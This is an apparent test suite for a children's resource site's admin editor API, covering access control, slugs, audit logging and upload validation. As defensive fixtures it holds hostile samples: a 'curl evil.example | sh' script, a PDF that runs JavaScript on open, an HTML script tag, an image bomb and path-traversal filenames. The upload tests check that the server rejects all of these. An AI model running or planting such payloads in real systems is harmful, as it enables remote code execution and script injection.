import { readdir } from 'node:fs/promises'
import path from 'node:path'
import type { EditableResource } from '@lamplight/contracts'
import { eq } from 'drizzle-orm'
import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import sharp from 'sharp'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { auditLog, categories, fileAssets, resources, tags } from '../../db/schema'
import type { Actors } from '../../security/actors'
import { TEST_ORIGIN } from '../../test/app'
import { DRIVERS } from '../../test/database'
import { pngClaiming } from '../../test/png'
import { useTestAppWithActors } from '../../test/use-test-app'

const MAX = 200 * 1024

async function pdf(pages: number) {
  const doc = await PDFDocument.create()
  for (let i = 0; i < pages; i++) doc.addPage([612, 792])
  return new Uint8Array(await doc.save())
}
/** A PDF that runs JavaScript when it is opened (Chromium's viewer shows the alert). */
async function pdfWithOpenScript() {
  const doc = await PDFDocument.create()
  doc.addPage([612, 792])
  doc.catalog.set(
    PDFName.of('OpenAction'),
    doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }),
  )
  return new Uint8Array(await doc.save())
}
const png = async (width = 40, height = 30) =>
  new Uint8Array(
    await sharp({ create: { width, height, channels: 3, background: '#c33' } })
      .png()
      .toBuffer(),
  )

/** A body that sends `chunks` one by one and never declares a length. */
function streamOf(chunks: Uint8Array[]) {
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      const next = chunks.shift()
      if (next) controller.enqueue(next)
      else controller.close()
    },
  })
}

async function filesOnDisk(dir: string): Promise<string[]> {
  const out: string[] = []
  async function walk(d: string) {
    for (const entry of await readdir(d, { withFileTypes: true }).catch(() => [])) {
      const full = path.join(d, entry.name)
      if (entry.isDirectory()) await walk(full)
      else out.push(path.relative(dir, full))
    }
  }
  await walk(dir)
  return out.sort()
}

describe.each(DRIVERS)('resource editor on %s', (driver) => {
  const setup = useTestAppWithActors(driver, `editor-${driver}`, { UPLOAD_MAX_BYTES: String(MAX) })
  let filesDir: string
  let categoryId: string
  let otherCategoryId: string
  let n = 0

  beforeAll(async () => {
    filesDir = setup.config.filesDir
    const cats = await setup.database.db
      .insert(categories)
      .values([
        { slug: 'printables', name: 'Printables' },
        { slug: 'kids-activities-colouring', name: 'Kids Activities & Colouring' },
      ])
      .returning({ id: categories.id })
    categoryId = cats[0]!.id
    otherCategoryId = cats[1]!.id
  })
  beforeEach(() => {
    n += 1
  })

  let seq = 0
  const input = (over: Record<string, unknown> = {}) => ({
    title: `Armour of God ${n}`,
    slug: `armour-of-god-${n}-${++seq}`,
    description: 'Ephesians 6 for children',
    category_id: categoryId,
    age_range: '6-10',
    scripture_ref: 'Ephesians 6:10-18',
    tags: ['Armour', 'bible'],
    is_featured: false,
    published: false,
    gallery: null,
    ...over,
  })

  async function create(over: Record<string, unknown> = {}) {
    const res = await setup.actors.editor.json<{ data: EditableResource }>('/api/admin/resources', {
      method: 'POST',
      body: input(over),
    })
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    return res.body.data
  }

  function upload(
    id: string,
    body: Uint8Array | ReadableStream<Uint8Array> | null,
    filename = 'file.bin',
    who: keyof Omit<Actors, 'ids'> = 'editor',
    target = 'files',
    extraHeaders: Record<string, string> = {},
  ) {
    return setup.app.request(`/api/admin/resources/${id}/${target}`, {
      method: target === 'files' ? 'POST' : 'PUT',
      headers: {
        Origin: TEST_ORIGIN,
        'X-Forwarded-For': setup.actors[who].ip,
        Cookie: setup.actors[who].cookie(),
        'Content-Type': 'application/octet-stream',
        'X-Filename': encodeURIComponent(filename),
        ...extraHeaders,
      },
      body: body as BodyInit | null,
      // Node's fetch needs this for a stream body.
      duplex: 'half',
    } as RequestInit)
  }

  it('refuses every editor endpoint to visitors (401) and customers (403)', async () => {
    const r = await create()
    const routes: [string, string, unknown][] = [
      ['GET', '/api/admin/resources/options', undefined],
      ['GET', '/api/admin/resources/slug-available?slug=abc', undefined],
      ['POST', '/api/admin/resources', input()],
      ['GET', `/api/admin/resources/${r.id}`, undefined],
      ['PUT', `/api/admin/resources/${r.id}`, input()],
      ['PUT', `/api/admin/resources/${r.id}/files/order`, { file_ids: [r.id] }],
      ['DELETE', `/api/admin/resources/${r.id}/files/${r.id}`, undefined],
      ['GET', `/api/admin/resources/${r.id}/thumbnail`, undefined],
    ]
    for (const [method, url, body] of routes) {
      expect((await setup.actors.anonymous.request(url, { method, body })).status, `${method} ${url}`).toBe(
        401,
      )
      expect((await setup.actors.customer.request(url, { method, body })).status, `${method} ${url}`).toBe(
        403,
      )
    }
    for (const who of ['anonymous', 'customer'] as const) {
      const res = await upload(r.id, await png(), 'x.png', who)
      expect(res.status).toBe(who === 'anonymous' ? 401 : 403)
      expect((await upload(r.id, await png(), 'x.png', who, 'thumbnail')).status).toBe(
        who === 'anonymous' ? 401 : 403,
      )
    }
    expect(await filesOnDisk(filesDir)).toEqual([])
  })

  it('creates a draft with tags picked case-insensitively, edits it and records both in the audit log', async () => {
    const first = await create({ tags: ['Noah', 'noah', ' Flood '] })
    expect(first.tags).toEqual(['Flood', 'Noah'])
    expect(first.published).toBe(false)
    // An admin may edit too; "NOAH" reuses the existing tag.
    const second = await create({ tags: ['NOAH', 'Rainbow'] })
    expect(second.tags).toEqual(['Noah', 'Rainbow'])
    const tagRows = await setup.database.db.select().from(tags)
    expect(tagRows.filter((t) => t.name.toLowerCase() === 'noah')).toHaveLength(1)

    const got = await setup.actors.admin.json<{ data: EditableResource }>(`/api/admin/resources/${first.id}`)
    expect(got.status).toBe(200)
    expect(got.body.data).toMatchObject({ title: first.title, published: false, files: [] })

    const saved = await setup.actors.admin.json<{ data: EditableResource }>(
      `/api/admin/resources/${first.id}`,
      {
        method: 'PUT',
        body: input({
          title: 'Armour of God, renamed',
          slug: first.slug,
          tags: ['Armour'],
          category_id: otherCategoryId,
          age_range: '',
          published: true,
          is_featured: true,
        }),
      },
    )
    expect(saved.status).toBe(200)
    expect(saved.body.data).toMatchObject({
      title: 'Armour of God, renamed',
      tags: ['Armour'],
      category_id: otherCategoryId,
      age_range: null,
      published: true,
      is_featured: true,
    })
    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, first.id))
    expect(audit.map((a) => a.action).sort()).toEqual(['resource.created', 'resource.updated'])
    const updated = audit.find((a) => a.action === 'resource.updated')!
    expect(updated.actorId).toBe(setup.actors.ids.admin)
    expect((updated.before as { title: string }).title).toBe(first.title)
    expect((updated.after as { title: string }).title).toBe('Armour of God, renamed')

    const options = await setup.actors.editor.json<{
      categories: unknown[]
      age_ranges: string[]
      tags: string[]
    }>('/api/admin/resources/options')
    expect(options.status).toBe(200)
    expect(options.body.categories).toHaveLength(2)
    expect(options.body.age_ranges).toContain('6-10')
    expect(options.body.tags).toEqual(expect.arrayContaining(['Armour', 'Noah', 'Rainbow']))
  })

  it('checks slugs: availability, 409 for a taken one, 400 for a malformed one, the gallery prefix', async () => {
    const r = await create()
    const check = (q: string) =>
      setup.actors.editor.json<{ available: boolean }>(`/api/admin/resources/slug-available?${q}`)
    expect((await check(`slug=${r.slug}`)).body.available).toBe(false)
    expect((await check(`slug=${r.slug}&exclude_id=${r.id}`)).body.available).toBe(true)
    expect((await check('slug=never-used-slug')).body.available).toBe(true)
    expect((await check('slug=Not%20A%20Slug')).status).toBe(400)

    const dup = await setup.actors.editor.json<{ error: { code: string } }>('/api/admin/resources', {
      method: 'POST',
      body: input({ slug: r.slug }),
    })
    expect(dup.status).toBe(409)
    expect(dup.body.error.code).toBe('conflict')
    const bad = await setup.actors.editor.request('/api/admin/resources', {
      method: 'POST',
      body: input({ slug: '../etc', title: '' }),
    })
    expect(bad.status).toBe(400)
    const unknownCategory = await setup.actors.editor.request('/api/admin/resources', {
      method: 'POST',
      body: input({ category_id: '00000000-0000-4000-8000-000000000000' }),
    })
    expect(unknownCategory.status).toBe(400)

    // A gallery page: the slug carries the gallery's prefix; a plain resource may not take one.
    expect(
      (
        await setup.actors.editor.request('/api/admin/resources', {
          method: 'POST',
          body: input({ slug: `noahs-ark-dove-${n}`, gallery: null }),
        })
      ).status,
    ).toBe(400)
    expect(
      (
        await setup.actors.editor.request('/api/admin/resources', {
          method: 'POST',
          body: input({ slug: `dove-${n}`, gallery: 'noahs-ark' }),
        })
      ).status,
    ).toBe(400)
    const page = await create({
      slug: `noahs-ark-dove-${n}`,
      gallery: 'noahs-ark',
      category_id: otherCategoryId,
      published: true,
    })
    expect(page.gallery).toBe('noahs-ark')
    const file = await upload(page.id, await png(), 'dove.png')
    expect(file.status).toBe(201)
    const gallery = await setup.actors.anonymous.json<{ data: { slug: string }[] }>(
      '/api/resources/galleries/noahs-ark',
    )
    expect(gallery.body.data.map((g) => g.slug)).toContain(page.slug)
    const listing = await setup.actors.anonymous.json<{ data: { slug: string }[] }>(
      '/api/resources?page_size=100',
    )
    expect(listing.body.data.map((g) => g.slug)).not.toContain(page.slug)
  })

  it('404s an unknown resource with a clear message', async () => {
    const id = '00000000-0000-4000-8000-000000000001'
    const got = await setup.actors.editor.json<{ error: { code: string; message: string } }>(
      `/api/admin/resources/${id}`,
    )
    expect(got.status).toBe(404)
    expect(got.body.error.message).toBe('No such resource.')
    expect(
      (await setup.actors.editor.request(`/api/admin/resources/${id}`, { method: 'PUT', body: input() }))
        .status,
    ).toBe(404)
    expect((await upload(id, await png(), 'x.png')).status).toBe(404)
  })

  it('uploads a PDF and images: pages, dimensions, a thumbnail from the first image, order, removal', async () => {
    const r = await create({ published: true })
    const before = await filesOnDisk(filesDir)
    const up1 = await upload(r.id, await pdf(3), '../../etc/Armour\u0000 of God.PDF')
    expect(up1.status).toBe(201)
    const afterPdf = ((await up1.json()) as { data: EditableResource }).data
    expect(afterPdf.files).toMatchObject([
      { filename: 'Armour of God.pdf', mime_type: 'application/pdf', pages: 3, width: null, position: 0 },
    ])
    expect(afterPdf.thumb_url).toBeNull()

    const up2 = await upload(r.id, await png(80, 60), 'colouring page.png')
    expect(up2.status).toBe(201)
    const up3 = await upload(
      r.id,
      new Uint8Array(
        await sharp(await png(20, 10))
          .jpeg()
          .toBuffer(),
      ),
      'photo.jpeg',
    )
    expect(up3.status).toBe(201)
    const up4 = await upload(
      r.id,
      new Uint8Array(
        await sharp(await png(12, 12))
          .webp()
          .toBuffer(),
      ),
      'w',
    )
    expect(up4.status).toBe(201)
    const full = ((await up4.json()) as { data: EditableResource }).data
    expect(full.files.map((f) => [f.filename, f.mime_type, f.width, f.height])).toEqual([
      ['Armour of God.pdf', 'application/pdf', null, null],
      ['colouring page.png', 'image/png', 80, 60],
      ['photo.jpg', 'image/jpeg', 20, 10],
      ['w.webp', 'image/webp', 12, 12],
    ])
    expect(full.thumb_url).toMatch(new RegExp(`^/api/admin/resources/${r.id}/thumbnail\\?v=`))
    // The thumbnail: resized WebP, shown to the editor and, once published, to everyone.
    const thumb = await setup.actors.editor.request(full.thumb_url!)
    expect(thumb.status).toBe(200)
    expect(thumb.headers.get('content-type')).toBe('image/webp')
    const pub = await setup.actors.anonymous.json<{
      data: { thumb_url: string; files: { pages: number | null }[] }
    }>(`/api/resources/item/${r.slug}`)
    expect(pub.body.data.thumb_url).toBeTruthy()
    expect(pub.body.data.files[0]?.pages).toBe(3)
    expect((await setup.actors.anonymous.request(pub.body.data.thumb_url)).status).toBe(200)

    // Reorder: every id once.
    const ids = full.files.map((f) => f.id)
    const reversed = [...ids].reverse()
    const reordered = await setup.actors.editor.json<{ data: EditableResource }>(
      `/api/admin/resources/${r.id}/files/order`,
      { method: 'PUT', body: { file_ids: reversed } },
    )
    expect(reordered.status).toBe(200)
    expect(reordered.body.data.files.map((f) => f.id)).toEqual(reversed)
    const pubOrder = await setup.actors.anonymous.json<{ data: { files: { id: string }[] } }>(
      `/api/resources/item/${r.slug}`,
    )
    expect(pubOrder.body.data.files.map((f) => f.id)).toEqual(reversed)
    for (const bad of [
      ids.slice(1),
      [...ids, ids[0]],
      [...ids.slice(1), '00000000-0000-4000-8000-000000000000'],
    ])
      expect(
        (
          await setup.actors.editor.request(`/api/admin/resources/${r.id}/files/order`, {
            method: 'PUT',
            body: { file_ids: bad },
          })
        ).status,
      ).toBe(400)

    // Remove one: its row and object go.
    const removed = await setup.actors.editor.json<{ data: EditableResource }>(
      `/api/admin/resources/${r.id}/files/${ids[0]}`,
      { method: 'DELETE' },
    )
    expect(removed.status).toBe(200)
    expect(removed.body.data.files).toHaveLength(3)
    expect(
      (
        await setup.actors.editor.request(`/api/admin/resources/${r.id}/files/${ids[0]}`, {
          method: 'DELETE',
        })
      ).status,
    ).toBe(404)
    // 3 files + 1 thumbnail stored for this resource.
    const added = (await filesOnDisk(filesDir)).filter((f) => !before.includes(f))
    expect(added.filter((f) => f.includes(r.id))).toHaveLength(4)

    // Sized copies (srcset widths) of the thumbnail are stored beside it once asked for.
    const sized = async (...widths: number[]) => {
      for (const w of widths)
        expect((await setup.actors.anonymous.request(`/api/files/thumbs/${r.id}?w=${w}`)).status).toBe(200)
      return (await filesOnDisk(filesDir)).filter((f) => f.startsWith('derived/') && f.includes(r.id))
    }
    expect(await sized(240, 400)).toHaveLength(2)

    // Replace the thumbnail with an uploaded image; a PDF is not an image. The old one's
    // sized copies go with it.
    expect((await upload(r.id, await pdf(1), 'cover.pdf', 'editor', 'thumbnail')).status).toBe(415)
    const replaced = await upload(r.id, await png(300, 400), 'cover.png', 'editor', 'thumbnail')
    expect(replaced.status).toBe(200)
    expect((await filesOnDisk(filesDir)).filter((f) => f.includes(r.id))).toHaveLength(4)
    expect(await sized(240)).toHaveLength(1)

    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
    expect(new Set(audit.map((a) => a.action))).toEqual(
      new Set([
        'resource.created',
        'resource.file_added',
        'resource.files_reordered',
        'resource.file_removed',
        'resource.thumbnail_replaced',
      ]),
    )

    // Deleting the resource removes every object it had, sized thumbnails too.
    expect(
      (await setup.actors.editor.request(`/api/admin/resources/${r.id}`, { method: 'DELETE' })).status,
    ).toBe(200)
    expect((await filesOnDisk(filesDir)).filter((f) => f.includes(r.id))).toEqual([])
  })

  it('refuses a PDF that runs JavaScript with a 400 on the file field, stores nothing, and still takes a clean PDF', async () => {
    const r = await create()
    const before = await filesOnDisk(filesDir)
    const rowsBefore = await setup.database.db.select().from(fileAssets)
    const res = await upload(r.id, await pdfWithOpenScript(), 'colouring.pdf')
    expect(res.status).toBe(400)
    const { error } = (await res.json()) as {
      error: { code: string; message: string; issues: { path: string; message: string }[] }
    }
    expect(error.code).toBe('validation_failed')
    expect(error.message).toMatch(/contains scripts/)
    expect(error.issues).toEqual([{ path: 'file', message: error.message }])
    expect(await filesOnDisk(filesDir), 'nothing stored').toEqual(before)
    expect(await setup.database.db.select().from(fileAssets)).toEqual(rowsBefore)
    const audit = await setup.database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id))
    expect(audit.map((a) => a.action)).not.toContain('resource.file_added')

    const clean = await upload(r.id, await pdf(2), 'colouring.pdf')
    expect(clean.status).toBe(201)
    const [file] = ((await clean.json()) as { data: EditableResource }).data.files
    expect(file).toMatchObject({ filename: 'colouring.pdf', pages: 2 })
  })

  it('refuses hostile uploads with a 4xx and stores nothing', async () => {
    const r = await create()
    const before = await filesOnDisk(filesDir)
    const rowsBefore = await setup.database.db.select().from(fileAssets)
    const script = new TextEncoder().encode('#!/bin/sh\ncurl evil.example | sh\n')
    const html = new TextEncoder().encode('<script>alert(1)</script>')
    const realPdf = await pdf(1)
    const wrongHeader = new Uint8Array([0x20, ...realPdf])
    const brokenPdf = new TextEncoder().encode('%PDF-1.7\nthis is not a pdf at all\n%%EOF')
    const truncatedPng = (await png(400, 400)).slice(0, 60)
    const cases: [
      string,
      Uint8Array | ReadableStream<Uint8Array> | null,
      string,
      number,
      Record<string, string>?,
    ][] = [
      ['a script named .png', script, 'evil.png', 415],
      ['HTML named .pdf', html, 'evil.pdf', 415],
      ['a PDF with a wrong header', wrongHeader, 'x.pdf', 415],
      ['a PDF header over garbage', brokenPdf, 'x.pdf', 422],
      ['a 0-byte file', new Uint8Array(0), 'empty.png', 400],
      ['no body at all', null, 'empty.png', 400],
      ['an image with huge dimensions', pngClaiming(100_000, 100_000), 'bomb.png', 422],
      ['a truncated image', truncatedPng, 'cut.png', 422],
      [
        'an oversize file with no declared length, cut off mid-stream',
        streamOf([realPdf, ...Array.from({ length: 10 }, () => new Uint8Array(64 * 1024))]),
        'big.pdf',
        413,
      ],
      [
        'an oversize file by its Content-Length',
        realPdf,
        'big.pdf',
        413,
        { 'Content-Length': String(MAX + 10) },
      ],
    ]
    for (const [label, body, name, status, headers] of cases) {
      const res = await upload(r.id, body, name, 'editor', 'files', headers)
      const text = await res.text()
      expect(res.status, `${label}: ${text}`).toBe(status)
      expect(JSON.parse(text).error.code, label).toEqual(expect.any(String))
    }
    expect(await filesOnDisk(filesDir), 'nothing stored').toEqual(before)
    expect(await setup.database.db.select().from(fileAssets)).toEqual(rowsBefore)
    const [row] = await setup.database.db.select().from(resources).where(eq(resources.id, r.id))
    expect(row?.thumbKey).toBeNull()

    // Names with traversal and NUL are reduced to a safe last segment.
    const ok = await upload(r.id, await png(), '..\\..\\windows/sys\u0000tem32/../ok name<>.png')
    expect(ok.status).toBe(201)
    const [file] = ((await ok.json()) as { data: EditableResource }).data.files
    expect(file?.filename).toBe('ok name.png')
    // The stored object's key never comes from the name.
    const stored = (await filesOnDisk(filesDir)).filter((f) => !before.includes(f))
    for (const key of stored)
      expect(key).toMatch(/^(resources\/[0-9a-f-]+\/[0-9a-f-]+\.png|thumbs\/[0-9a-f-]+\.webp)$/)
  })
})
